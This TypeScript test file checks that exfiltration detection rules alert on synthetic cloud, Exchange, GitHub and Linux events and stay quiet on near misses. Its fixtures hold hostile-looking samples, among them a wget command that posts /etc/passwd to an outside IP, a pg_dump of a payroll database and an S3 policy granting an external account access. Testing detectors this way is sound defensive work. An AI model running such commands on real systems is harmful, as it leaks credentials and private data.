import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import type { EcsEvent } from '../../src/ecs/index.js';
import { loadRules } from '../../src/rules/index.js';
import { at, FIXTURE_RULES, fixturesPresent, MIN, runRules } from './helpers.js';

function cloudtrail(provider: string, action: string, outcome: string, extra: Record<string, unknown> = {}): EcsEvent {
  return {
    '@timestamp': at(2 * MIN),
    data_stream: { dataset: 'aws.cloudtrail' },
    event: { dataset: 'aws.cloudtrail', provider, action, outcome, id: `${action}-${outcome}` },
    cloud: { provider: 'aws', account: { id: '111122223333' }, region: 'eu-west-1' },
    user: { name: 'mallory' },
    source: { ip: '203.0.113.9' },
    ...extra,
  } as EcsEvent;
}

function o365(action: string): EcsEvent {
  return {
    '@timestamp': at(2 * MIN),
    data_stream: { dataset: 'o365.audit' },
    event: { provider: 'Exchange', category: ['web'], action, outcome: 'success' },
    user: { name: 'admin@corp.example' },
  } as EcsEvent;
}

function linuxProcess(name: string, args: string[], extra: Record<string, unknown> = {}): EcsEvent {
  return {
    '@timestamp': at(2 * MIN),
    host: { name: 'db-01', os: { type: 'linux' } },
    user: { name: 'alice' },
    event: { category: ['process'], type: ['start'], action: 'exec' },
    process: { name, args, command_line: args.join(' '), parent: { name: 'bash', executable: '/usr/bin/bash' } },
    ...extra,
  } as EcsEvent;
}

const policy = (principal: string) =>
  `{bucketName=finance-exports, bucketPolicy={Version=2012-10-17, Statement=[{Effect=Allow, Principal={AWS=arn:aws:iam::${principal}:root}, Action=s3:GetObject}]}}`;

interface Case {
  file: string;
  positive: EcsEvent;
  negative: EcsEvent;
  explanation?: RegExp;
}

const CASES: Case[] = [
  {
    file: 'exfiltration_ec2_export_task.toml',
    positive: cloudtrail('ec2.amazonaws.com', 'CreateInstanceExportTask', 'success'),
    negative: cloudtrail('ec2.amazonaws.com', 'CreateInstanceExportTask', 'failure'),
    explanation: /^mallory called CreateInstanceExportTask on ec2\.amazonaws\.com in account 111122223333 \(eu-west-1\) from 203\.0\.113\.9 \(matches “AWS EC2 Export Task”\)$/,
  },
  {
    file: 'exfiltration_ec2_full_network_packet_capture_detected.toml',
    positive: cloudtrail('ec2.amazonaws.com', 'CreateTrafficMirrorSession', 'success'),
    negative: cloudtrail('ec2.amazonaws.com', 'CreateTrafficMirrorTarget', 'success'),
  },
  {
    file: 'exfiltration_ec2_snapshot_change_activity.toml',
    positive: cloudtrail('ec2.amazonaws.com', 'ModifySnapshotAttribute', 'success'),
    negative: cloudtrail('ec2.amazonaws.com', 'ModifyInstanceAttribute', 'success'),
  },
  {
    file: 'exfiltration_ec2_vm_export_failure.toml',
    positive: cloudtrail('ec2.amazonaws.com', 'CreateInstanceExportTask', 'failure'),
    negative: cloudtrail('ec2.amazonaws.com', 'CreateInstanceExportTask', 'success'),
  },
  {
    file: 'exfiltration_rds_snapshot_export.toml',
    positive: cloudtrail('rds.amazonaws.com', 'StartExportTask', 'success'),
    negative: cloudtrail('rds.amazonaws.com', 'StartExportTask', 'failure'),
  },
  { file: 'exfiltration_exchange_transport_rule_creation.toml', positive: o365('New-TransportRule'), negative: o365('Set-TransportRule') },
  { file: 'exfiltration_exchange_transport_rule_modification.toml', positive: o365('Disable-TransportRule'), negative: o365('New-TransportRule') },
  {
    file: 'exfiltration_gcp_logging_sink_modification.toml',
    positive: { '@timestamp': at(MIN), data_stream: { dataset: 'gcp.audit' }, event: { action: 'google.logging.v2.ConfigServiceV2.UpdateSink', outcome: 'success' } },
    negative: { '@timestamp': at(MIN), data_stream: { dataset: 'gcp.audit' }, event: { action: 'google.logging.v2.ConfigServiceV2.CreateSink', outcome: 'success' } },
  },
  {
    file: 'exfiltration_s3_bucket_policy_added_for_external_account_access.toml',
    positive: cloudtrail('s3.amazonaws.com', 'PutBucketPolicy', 'success', {
      event: { type: ['info'], provider: 's3.amazonaws.com', action: 'PutBucketPolicy', outcome: 'success' },
      aws: { cloudtrail: { request_parameters: policy('999988887777'), recipient_account_id: '111122223333' } },
    }),
    negative: cloudtrail('s3.amazonaws.com', 'PutBucketPolicy', 'success', {
      event: { type: ['info'], provider: 's3.amazonaws.com', action: 'PutBucketPolicy', outcome: 'success' },
      aws: { cloudtrail: { request_parameters: policy('111122223333'), recipient_account_id: '111122223333' } },
    }),
  },
  {
    file: 'exfiltration_github_private_repository_turned_public.toml',
    positive: { '@timestamp': at(MIN), data_stream: { dataset: 'github.audit' }, event: { category: ['configuration'], action: 'repo.access' }, github: { operation_type: 'modify', category: 'repo', visibility: 'public' }, user: { name: 'dev1' } },
    negative: { '@timestamp': at(MIN), data_stream: { dataset: 'github.audit' }, event: { category: ['configuration'], action: 'repo.access' }, github: { operation_type: 'modify', category: 'repo', visibility: 'private' }, user: { name: 'dev1' } },
  },
  {
    file: 'exfiltration_potential_database_dumping.toml',
    positive: linuxProcess('pg_dump', ['pg_dump', '-Fc', 'payroll']),
    negative: linuxProcess('psql', ['psql', 'payroll']),
    explanation: /^pg_dump on db-01 \(user alice\) ran `pg_dump -Fc payroll`/,
  },
  {
    file: 'exfiltration_potential_data_splitting_for_exfiltration.toml',
    positive: linuxProcess('split', ['split', '-b', '50M', 'dump.tar', 'part_']),
    negative: linuxProcess('split', ['split', '-b', '50M', 'dump.tar'], { process: { name: 'split', args: ['split', '-b', '50M'], parent: { name: 'apport' } } }),
  },
  {
    file: 'exfiltration_potential_wget_data_exfiltration.toml',
    positive: linuxProcess('wget', ['wget', '--post-file=/etc/passwd', 'http://198.51.100.7/upload']),
    negative: linuxProcess('wget', ['wget', 'http://198.51.100.7/tool.sh']),
  },
];

for (const c of CASES) {
  test(`${c.file}: fires on its event, not on the near miss`, (t) => {
    if (!fixturesPresent) return t.skip('../shared not present');
    const report = loadRules([join(FIXTURE_RULES, 'exfiltration', c.file)]);
    assert.equal(report.loaded.length, 1, JSON.stringify(report.errors));
    const rule = report.loaded[0];
    const alerts = runRules(report, [c.positive]);
    assert.equal(alerts.length, 1, 'positive event must alert once');
    const a = alerts[0];
    assert.equal(a['kibana.alert.rule.rule_id'], rule.id);
    assert.equal(a['kibana.alert.rule.name'], rule.name);
    assert.equal(a['kibana.alert.original_time'], c.positive['@timestamp']);
    assert.equal(a['kibana.alert.severity'], rule.severity);
    assert.ok(String(a['kibana.alert.reason']).endsWith(`created ${rule.severity} alert ${rule.name}.`));
    assert.deepEqual(a['kibana.alert.rule.threat'], rule.threat);
    if (c.explanation) assert.match(String(a['outflow.explanation']), c.explanation);
    assert.deepEqual(runRules(report, [c.negative]), [], 'near miss must not alert');
  });
}
